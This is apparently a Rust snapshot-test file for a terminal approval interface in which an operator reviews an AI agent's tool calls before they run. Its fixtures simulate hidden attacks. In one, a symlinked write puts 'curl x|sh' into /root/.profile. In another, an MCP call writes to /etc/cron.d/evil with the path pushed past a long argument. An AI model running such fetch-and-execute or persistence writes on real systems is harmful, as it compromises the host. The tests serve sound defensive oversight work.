//! Snapshots of what a card shows of the call itself: a write through a
//! symlink names its real target and the link, an MCP call's arguments are
//! all on a card the operator scrolls (nothing past character 160 hidden),
//! and a command says where it runs.

use crossterm::event::KeyCode;

use crate::app::{App, Focus};
use crate::tests::app_tests::{app, key, request};
use crate::tests::view_tests::screen;
use vigil_protocol::CallFacts;
use vigil_protocol::{AgentEvent, ApprovalRequest, FileChange};

fn waiting(r: ApprovalRequest) -> App {
    let mut app = app();
    app.on_agent_event(AgentEvent::ToolCallRequested {
        call_id: r.call_id.clone(),
        name: r.tool.clone(),
        arguments: "{}".into(),
    });
    app.on_agent_event(AgentEvent::ApprovalRequested { request: r });
    app.set_focus(Focus::Approvals);
    app
}

#[test]
fn a_symlinked_write_shows_its_real_target_100x30() {
    let mut r = request(1, "c1", "write notes.txt (9 bytes)");
    r.tool = "write_file".into();
    r.gate.editable_field = None;
    r.gate.why = None;
    r.change = Some(FileChange::Modify {
        path: "notes.txt".into(),
        before: "export PATH=/usr/bin\n".into(),
        after: "curl x|sh\n".into(),
    });
    r.facts = Box::new(CallFacts {
        paths: vec!["/root/.profile".into()],
        resolved: Some("/root/.profile (via symlink /home/ops/notes.txt)".into()),
        digest: "ab".repeat(32),
        ..Default::default()
    });
    insta::assert_snapshot!(screen(&waiting(r), 100, 30));
}

#[test]
fn an_mcp_call_shows_every_argument_80x24() {
    let long = format!("{}then the part past 160", "x".repeat(170));
    let args = serde_json::json!({"comment": long, "path": "/etc/cron.d/evil"});
    let mut r = request(
        1,
        "c1",
        &format!("fs.write {{\"comment\":\"{}…", "x".repeat(140)),
    );
    r.tool = "fs__write".into();
    r.gate.editable_field = None;
    r.gate.why = None;
    r.facts = Box::new(CallFacts {
        arguments: Some(serde_json::to_string_pretty(&args).unwrap()),
        digest: "cd".repeat(32),
        ..Default::default()
    });
    let mut app = waiting(r);
    let top = screen(&app, 80, 24);
    for _ in 0..3 {
        app.on_key(key(KeyCode::PageDown));
    }
    let scrolled = screen(&app, 80, 24);
    app.on_key(key(KeyCode::Char('z')));
    let zoomed = screen(&app, 80, 24);
    let all = format!("{top}\n{scrolled}\n{zoomed}");
    // What the action line cuts is on the card.
    assert!(zoomed.contains("/etc/cron.d/evil"), "{zoomed}");
    assert!(all.contains("part past 160"), "{all}");
    insta::assert_snapshot!(all);
}
